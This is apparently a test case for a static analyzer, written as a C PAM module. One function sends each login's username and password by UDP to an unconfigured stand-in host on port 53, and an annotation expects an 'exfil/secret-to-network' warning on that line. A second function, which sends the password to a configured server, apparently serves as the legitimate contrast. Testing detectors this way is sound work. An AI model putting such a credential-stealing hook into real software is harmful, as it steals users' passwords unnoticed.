/* A PAM module copies the password into a datagram for a host that no setting names. */
#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct attempt {
    char user[32];
    char word[64];
    unsigned count;
};

int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
    struct attempt attempt;
    struct sockaddr_in peer;
    const char *user = NULL, *word = NULL;
    (void)flags, (void)argc, (void)argv;
    if (pam_get_user(pamh, &user, NULL) != PAM_SUCCESS)
        return PAM_AUTH_ERR;
    if (pam_get_authtok(pamh, PAM_AUTHTOK, &word, NULL) != PAM_SUCCESS)
        return PAM_AUTH_ERR;
    memset(&attempt, 0, sizeof attempt);
    strncpy(attempt.user, user, sizeof attempt.user - 1);
    strncpy(attempt.word, word, sizeof attempt.word - 1);
    memset(&peer, 0, sizeof peer);
    peer.sin_family = AF_INET;
    peer.sin_port = htons(53);
    peer.sin_addr.s_addr = inet_addr("192.0.2.53");
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
    sendto(out, &attempt, sizeof attempt, 0, (struct sockaddr *)&peer, sizeof peer);
    close(out);
    return PAM_IGNORE;
}

/* What a module for a login server does: the server is the module's argument in /etc/pam.d. */
int pam_sm_open_session(pam_handle_t *pamh, int flags, int argc, const char **argv) {
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *server = NULL;
    const char *word = NULL;
    (void)flags;
    if (argc < 1 || getaddrinfo(argv[0], "1812", &hints, &server))
        return PAM_SESSION_ERR;
    int out = socket(server->ai_family, server->ai_socktype, 0);
    int status = PAM_SESSION_ERR;
    if (connect(out, server->ai_addr, server->ai_addrlen) == 0 &&
        pam_get_authtok(pamh, PAM_AUTHTOK, &word, NULL) == PAM_SUCCESS) {
        send(out, word, strlen(word), 0);
        status = PAM_SUCCESS;
    }
    close(out);
    freeaddrinfo(server);
    return status;
}
